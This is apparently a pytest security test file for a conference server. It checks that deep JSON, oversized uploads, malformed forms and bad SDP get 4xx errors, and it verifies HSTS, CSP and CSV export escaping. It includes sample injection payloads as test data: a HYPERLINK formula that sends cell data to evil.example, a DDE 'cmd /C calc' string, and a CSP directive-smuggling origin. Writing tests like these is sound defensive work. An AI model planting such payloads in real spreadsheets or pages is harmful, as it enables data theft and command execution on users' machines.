"""Hostile input gets a clear 4xx or error message, never a 500 or a traceback (issue 8, item 16).

Found by the red team: JSON nested 100,000 deep at ``/api/login`` and 60,000
deep on a WebSocket reached Python's recursion limit inside ``json.loads``
(500s, tracebacks); a watch-list CSV field over 128 KiB raised ``csv.Error``
(500); an attendance sheet wrote a site called ``=HYPERLINK(...)`` as a live
formula; no HSTS under TLS; a CSP that let pages connect to any WebSocket host.
Everything here runs against a real server process.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import ssl
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import aiohttp
import pytest

from conference import client_json
from tests.support.accounts import PASSWORD, logins, start_with_accounts
from tests.support.api_client import meeting_body
from tests.support.peers import SignalingClient
from tests.support.server import ServerProcess, start_server
from tests.support.waiting import eventually
from web import csv_export

ACCOUNTS = {"host.tinh": ("host", "19"), "host.dinhhoa": ("host", "167")}
DEEP = 100_000
UNCLOSED = "[" * 60_000  # under the 64 KiB message limit, and deep enough to crash json.loads


@pytest.fixture(scope="module")
def input_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    server = start_with_accounts(Path(tmp_path_factory.mktemp("input")) / "data", ACCOUNTS)
    yield server
    server.stop()


@pytest.fixture
async def as_user(input_server: ServerProcess) -> AsyncIterator:
    async with logins(input_server) as login:
        yield login


def assert_no_traceback(server: ServerProcess) -> None:
    log = server.log()
    assert "Traceback" not in log and "RecursionError" not in log, log[-4000:]


def ws_url(server: ServerProcess, path: str) -> str:
    return server.base_url.replace("http", "ws", 1) + path


async def next_json(ws: aiohttp.ClientWebSocketResponse) -> dict:
    message = await ws.receive(timeout=30)
    assert message.type == aiohttp.WSMsgType.TEXT, message
    return json.loads(message.data)


# -- deep JSON -------------------------------------------------------------------------


def test_the_depth_scan_skips_strings_and_stops_early() -> None:
    assert client_json.nesting_depth('{"a": [1, {"b": "[[[[{{{{"}], "c": "\\"[["}') == 3
    assert client_json.nesting_depth("[" * 10 + "]" * 10) == 10
    assert client_json.nesting_depth("[" * DEEP, stop_above=64) == 65
    assert client_json.loads("[" * 64 + "]" * 64) is not None  # at the limit: accepted
    for text in ("[" * 65 + "]" * 65, "[" * DEEP + "]" * DEEP, UNCLOSED, '{"a":' * DEEP):
        with pytest.raises(client_json.ClientJsonError) as refused:
            client_json.loads(text)
        assert refused.value.code == "json-too-deep"
    # An unterminated string of escapes: one linear pass, then the parser's own error.
    with pytest.raises(client_json.ClientJsonError) as refused:
        client_json.loads('["' + '\\"[' * 200_000)
    assert refused.value.code == "bad-json"


async def test_deep_json_in_rest_bodies_is_a_400(input_server, as_user) -> None:
    async with aiohttp.ClientSession() as session:
        for body in ("[" * DEEP + "]" * DEEP, '{"username":' * 20_000, UNCLOSED):
            async with session.post(
                input_server.base_url + "/api/login",
                data=body,
                headers={"Content-Type": "application/json"},
            ) as reply:
                assert reply.status == 400
                assert (await reply.json())["error"]["code"] == "json-too-deep"
    # A logged-in route the same way, and the login itself still works.
    host = await as_user("host.dinhhoa")
    async with host.session.post(
        input_server.base_url + "/api/meetings",
        data="[" * DEEP,
        headers={"Content-Type": "application/json", "X-CSRF-Token": host.csrf or ""},
    ) as reply:
        assert reply.status == 400 and (await reply.json())["error"]["code"] == "json-too-deep"
    assert_no_traceback(input_server)


async def test_deep_json_on_the_signaling_socket_is_an_error_message(input_server) -> None:
    room = input_server.create_room()
    async with aiohttp.ClientSession() as session:
        async with session.ws_connect(ws_url(input_server, f"/ws/{room}")) as ws:
            await ws.send_str(UNCLOSED)
            error = await next_json(ws)
            assert (error["type"], error["code"], error["fatal"]) == (
                "error",
                "json-too-deep",
                False,
            )
            await ws.send_str(json.dumps({"type": "ping", "id": 7}))  # the socket carries on
            assert await next_json(ws) == {"type": "pong", "id": 7}
    assert_no_traceback(input_server)


async def test_a_token_with_a_deep_header_is_malformed_not_a_crash(input_server) -> None:
    room = input_server.create_room()
    header = base64.urlsafe_b64encode(b"[" * 2900).decode().rstrip("=")
    token = f"{header}.e30.c2ln"
    async with aiohttp.ClientSession() as session:
        async with session.post(
            input_server.base_url + f"/whip/{room}",
            data="v=0\r\n",
            headers={"Content-Type": "application/sdp", "Authorization": f"Bearer {token}"},
        ) as reply:
            assert reply.status == 401
            assert (await reply.json())["error"]["code"] == "token-malformed"
        async with session.ws_connect(ws_url(input_server, f"/ws/{room}")) as ws:
            await ws.send_str(json.dumps({"type": "join", "token": token}))
            error = await next_json(ws)
            assert (error["code"], error["fatal"]) == ("token-malformed", True)
    assert_no_traceback(input_server)


async def test_deep_json_on_the_console_socket_is_answered(input_server, as_user) -> None:
    host = await as_user("host.dinhhoa")
    created = await host.call("POST", "/api/meetings", meeting_body("167", ["167"], start_in=0))
    assert created.status == 201, created.body
    meeting = created.body["meeting"]["id"]
    console = await host.session.ws_connect(ws_url(input_server, f"/ws/console/{meeting}"))
    try:
        assert (await next_json(console))["type"] == "console"
        await console.send_str(UNCLOSED)
        while (answer := await next_json(console))["type"] != "error":
            pass
        assert answer["code"] == "json-too-deep"
        # Still serving: a command that fails validation is answered by its id.
        bad = {"type": "command", "id": 9, "command": "give-floor", "site": "x" * 500}
        await console.send_str(json.dumps(bad))
        while (answer := await next_json(console)).get("id") != 9:
            pass
        assert answer["code"] == "invalid-message"
    finally:
        await console.close()
    assert_no_traceback(input_server)


# -- watch-list uploads ----------------------------------------------------------------


async def test_watch_list_uploads_refuse_huge_fields_and_deep_json(input_server, as_user) -> None:
    host = await as_user("host.tinh")

    async def upload(data: bytes, content_type: str) -> tuple[int, dict]:
        async with host.session.post(
            input_server.base_url + "/api/anpr/watchlist/upload",
            data=data,
            headers={"X-CSRF-Token": host.csrf or "", "Content-Type": content_type},
        ) as response:
            return response.status, await response.json()

    huge = b"pattern,reason\n29A12345,ok\n30A11111," + b"x" * (200 * 1024) + b"\n"
    status, body = await upload(huge, "text/csv")
    assert status == 400 and body["error"]["code"] == "bad-upload"
    assert "line 3" in body["error"]["message"], body
    assert len(body["error"]["message"]) < 500  # the field is not echoed back
    status, body = await upload(b"[" * DEEP + b"]" * DEEP, "application/json")
    assert status == 400 and body["error"]["code"] == "bad-upload"
    assert "deeper than 64" in body["error"]["message"]
    status, body = await upload(b"\xff\xfe not text", "text/csv")
    assert status == 400 and body["error"]["code"] == "bad-upload"
    assert (await host.call("GET", "/api/anpr/watchlist")).body["entries"] == []

    # A list that arrives in pieces, as over a slow link, is taken whole: the handler
    # used to read what had arrived so far and silently drop the rest.
    rows = [f"{n:02d}A{n:05d},{'lý do ' * 45}{n}" for n in range(1500)]
    data = ("pattern,reason\n" + "\n".join(rows) + "\n").encode()
    assert len(data) > 400 * 1024

    async def pieces() -> AsyncIterator[bytes]:
        for start in range(0, len(data), 32 * 1024):
            yield data[start : start + 32 * 1024]
            await asyncio.sleep(0.05)

    async with host.session.post(
        input_server.base_url + "/api/anpr/watchlist/upload",
        data=pieces(),
        headers={"X-CSRF-Token": host.csrf or "", "Content-Type": "text/csv"},
    ) as response:
        status, body = response.status, await response.json()
    assert status == 201 and body == {"added": 1500, "already_listed": 0}, body
    listed = (await host.call("GET", "/api/anpr/watchlist")).body["entries"]
    assert len(listed) == 1500
    for item in listed:
        assert (await host.call("DELETE", f"/api/anpr/watchlist/{item['id']}")).status == 204
    assert_no_traceback(input_server)


# -- spreadsheets ----------------------------------------------------------------------


def test_every_formula_start_is_neutralised() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_export.safe_cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert csv_export.safe_cell("UBND xã Yên Bình") == "UBND xã Yên Bình"
    assert csv_export.safe_cell(-3) == -3  # numbers stay numbers
    out = io.StringIO()
    csv_export.writer(out).writerow(["=1+1", "a=b", 5])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "a=b", "5"]


async def test_a_site_named_like_a_formula_is_text_in_the_attendance_sheet(
    input_server, as_user
) -> None:
    host = await as_user("host.tinh")  # the console test has a meeting of 167 now
    created = await host.call("POST", "/api/meetings", meeting_body("19", ["19"], start_in=0))
    assert created.status == 201, created.body
    meeting = created.body["meeting"]
    names = {
        "guest-1": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
        "guest-2": "@SUM(1+1)*cmd|' /C calc'!A0",
        "guest-3": "-2+3",
    }
    guests = []
    try:
        for site_id, name in names.items():
            guest = SignalingClient(
                input_server.base_url,
                meeting["room_id"],
                input_server.token(meeting["room_id"], name, site_id=site_id),
            )
            guests.append(guest)
            await guest.connect()
            await guest.wait_for(lambda m: m["type"] == "welcome")

        async def sheet() -> dict[str, list[str]] | None:
            async with host.session.get(
                f"{input_server.base_url}/api/meetings/{meeting['id']}/attendance.csv"
            ) as response:
                assert response.status == 200
                table = list(csv.reader(io.StringIO((await response.text()).lstrip("\ufeff"))))
            rows = {row[1]: row for row in table[1:]}
            return rows if set(names) <= set(rows) else None

        rows = await eventually(sheet)
        for site_id, name in names.items():
            assert rows[site_id][2] == "'" + name
        assert rows["19"][2] and not rows["19"][2].startswith("'")
    finally:
        for guest in guests:
            await guest.close()
    assert_no_traceback(input_server)


# -- the same faults elsewhere -----------------------------------------------------------


async def test_malformed_forms_are_a_400(input_server) -> None:
    forms = {
        "multipart/form-data": b"junk",  # no boundary at all
        "multipart/form-data; boundary=x": b'--x\r\nContent-Disposition: form-data; name="u"\r\n',
        "application/x-www-form-urlencoded; charset=no-such-charset": b"username=a",
    }
    async with aiohttp.ClientSession() as session:
        for content_type, data in forms.items():
            async with session.post(
                input_server.base_url + "/login",
                data=data,
                headers={"Content-Type": content_type},
                allow_redirects=False,
            ) as reply:
                assert reply.status == 400, (content_type, await reply.text())
                assert (await reply.json())["error"]["code"] == "bad-form"
    assert_no_traceback(input_server)


def test_a_request_aiohttp_cannot_parse_is_one_log_line_without_its_bytes(input_server) -> None:
    import socket

    port = int(input_server.base_url.rsplit(":", 1)[1])
    for request in (
        b"GET /join/x?token=SECRET-TOKEN-" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: SECRET-TOKEN-" + b"a" * 9000 + b"\r\n\r\n",
    ):
        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
            sock.sendall(request)
            assert sock.recv(65536).split(b"\r\n")[0].endswith(b" 400 Bad Request")
    log = input_server.log()
    assert "SECRET-TOKEN" not in log
    assert "LineTooLong (400)" in log
    assert_no_traceback(input_server)


async def test_ice_candidates_with_out_of_range_numbers_are_refused(input_server) -> None:
    import re

    from tests.support.peers import client_pc

    room = input_server.create_room()
    pc = client_pc()
    pc.addTransceiver("audio", direction="sendonly")
    await pc.setLocalDescription(await pc.createOffer())
    offer = pc.localDescription.sdp
    await pc.close()
    assert "a=candidate:" in offer
    bad_port = re.sub(r"(a=candidate:\S+ \d+ \S+ \d+ \S+ )\d+", r"\g<1>99999999", offer)
    bad_priority = re.sub(r"(a=candidate:\S+ \d+ \S+ )\d+", r"\g<1>99999999999", offer)
    async with aiohttp.ClientSession() as session:
        for sdp in (bad_port, bad_priority):
            async with session.post(
                input_server.base_url + f"/whip/{room}",
                data=sdp,
                headers={
                    "Content-Type": "application/sdp",
                    "Authorization": f"Bearer {input_server.token(room, 'Xã')}",
                },
            ) as reply:
                assert reply.status == 400
                assert (await reply.json())["error"]["code"] == "invalid-sdp"
    # Trickled on the signaling socket: an error message, and the site stays.
    site = SignalingClient(input_server.base_url, room, input_server.token(room, "Xã"))
    await site.connect()
    try:
        await site.wait_for(lambda m: m["type"] == "offer")
        candidate = "candidate:1 1 udp 2130706431 192.0.2.1 99999999 typ host"
        await site.send({"type": "ice", "candidate": {"candidate": candidate, "sdpMid": "0"}})
        error = await site.wait_for(lambda m: m["type"] == "error")
        assert error["code"] == "invalid-sdp" and "port" in error["message"]
    finally:
        await site.close()
    assert_no_traceback(input_server)


# -- headers ---------------------------------------------------------------------------


def test_hsts_under_tls_and_a_csp_that_connects_only_to_this_server(
    tmp_path: Path, input_server: ServerProcess
) -> None:
    import urllib.request

    tls = start_server(tmp_path / "tls", "--self-signed")
    try:
        context = ssl._create_unverified_context()
        for path in ("/healthz", "/login"):
            with urllib.request.urlopen(tls.base_url + path, timeout=30, context=context) as reply:
                hsts = reply.headers.get("Strict-Transport-Security", "")
                assert "max-age=31536000" in hsts, (path, dict(reply.headers))
            with urllib.request.urlopen(input_server.base_url + path, timeout=30) as reply:
                assert "Strict-Transport-Security" not in reply.headers  # plain HTTP: never
        with urllib.request.urlopen(tls.base_url + "/login", timeout=30, context=context) as reply:
            policy = reply.headers["Content-Security-Policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["connect-src"] == "'self'", policy
    finally:
        tls.stop()


def test_a_password_is_still_accepted_after_all_this(input_server) -> None:
    import urllib.request

    request = urllib.request.Request(
        input_server.base_url + "/api/login",
        data=json.dumps({"username": "host.tinh", "password": PASSWORD}).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=30) as reply:
        assert reply.status == 200
    assert_no_traceback(input_server)


def test_a_pages_csp_takes_only_clean_origins_of_other_nodes():
    from web.html import content_security_policy

    policy = content_security_policy(
        [
            "http://10.0.0.2:8080",
            "https://node-b.example.vn",
            "http://x; script-src *",  # a directive smuggled in
            "http://user:pass@10.0.0.3:8080",
            "javascript:alert(1)",
        ]
    )
    connect = next(d for d in policy.split("; ") if d.startswith("connect-src"))
    assert connect == "connect-src 'self' http://10.0.0.2:8080 https://node-b.example.vn"
    assert "script-src 'self'" in policy and policy.count("script-src") == 1
